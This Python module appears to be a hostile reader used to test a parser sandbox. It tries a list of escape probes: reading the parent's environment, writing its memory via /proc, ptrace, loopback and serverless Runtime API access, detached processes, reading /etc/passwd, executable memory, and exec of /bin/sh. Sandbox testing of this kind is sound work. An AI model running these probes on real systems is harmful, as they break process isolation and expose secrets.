"""What somebody runs who has taken a reader over: it stands where `clinical.papers.reader` stands, and is asked the same.

It tries everything once and tells what it got, as the text of a paper: that way out every attacker has.
"""

import ctypes
import encodings.idna  # noqa: F401 - names of hosts; an attacker has all that he needs with him
import json
import mmap
import os
import socket
import sys
from contextlib import suppress
from pathlib import Path

from clinical.papers import Page, Paper, reader
from sheaf.apart.child import DONE

MARK = b"\n#payload "
SEIZE = 0x4206
PARENT = os.getppid()


def content(kind, told):
    """A file that is taken for one of this kind, and holds what the payload is told."""
    starts = {"pdf": b"%PDF-1.7\n", "jats": b"<article></article>", "text": b"A paper."}
    return starts[kind] + MARK + json.dumps(told).encode()


def prepare(content, filename):
    reader.prepare(content, filename)


def read(content, filename, limits):
    told = json.loads(content.rpartition(MARK)[2])
    taken = [name for name, theft in THEFTS.items() if _succeeds(theft, told)]
    _become_a_shell(taken)
    return _paper(taken)


def _paper(taken):
    return Paper("text", (Page(1, json.dumps(taken)),))


def _succeeds(theft, told):
    with suppress(OSError, EOFError):
        return bool(theft(told))
    return False


def _environment(told):
    return told["secret"].encode() in Path(f"/proc/{PARENT}/environ").read_bytes()


def _memory(told):
    maps = Path(f"/proc/{PARENT}/maps").read_text().splitlines()
    start = next(int(line.partition("-")[0], 16) for line in maps if " rw-p " in line)
    with Path(f"/proc/{PARENT}/mem").open("r+b", 0) as memory:
        memory.seek(start)
        first = memory.read(1)
        memory.seek(start)
        return memory.write(first)


def _trace(told):
    return ctypes.CDLL(None).ptrace(SEIZE, PARENT, 0, 0) == 0


def _loopback(told):
    with socket.create_connection(("127.0.0.1", told["port"]), 2):
        return True


def _runtime_api(told):
    """What the next invocation of a function is asked for with: other people's documents."""
    with socket.create_connection(("127.0.0.1", told["port"]), 2) as runtime:
        runtime.sendall(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: runtime\r\n\r\n")
        return told["event"].encode() in runtime.recv(4096)


def _grandchild(told):
    """One that leaves the session, so that nobody knows it: who looks for it when the reading is over may find it."""
    child = os.fork()
    if child:
        return os.waitpid(child, 0) and False
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(20)", told["grandchild"]])
    os._exit(0)


def _file(told):
    """Likewise."""
    return Path(told["file"]).write_text("still here") and False


def _machine(told):
    return Path("/etc/passwd").read_text()


def _signal(told):
    os.kill(PARENT, 0)
    return True


def _code(told):
    return mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)


def _become_a_shell(taken):
    """A shell in this process's place has its way out too."""
    answer = DONE.decode() + _paper([*taken, "a shell"]).to_json()
    with suppress(OSError):
        os.execv("/bin/sh", ["sh", "-c", 'printf %s "$0"', answer])


THEFTS = {
    "the parent's environment": _environment,
    "the parent's memory": _memory,
    "a hold on the parent": _trace,
    "a loopback socket": _loopback,
    "the Runtime API": _runtime_api,
    "a grandchild": _grandchild,
    "a file left over": _file,
    "a file of the machine": _machine,
    "a signal to the parent": _signal,
    "memory that is code": _code,
}
EVERYTHING = (*THEFTS, "a shell")
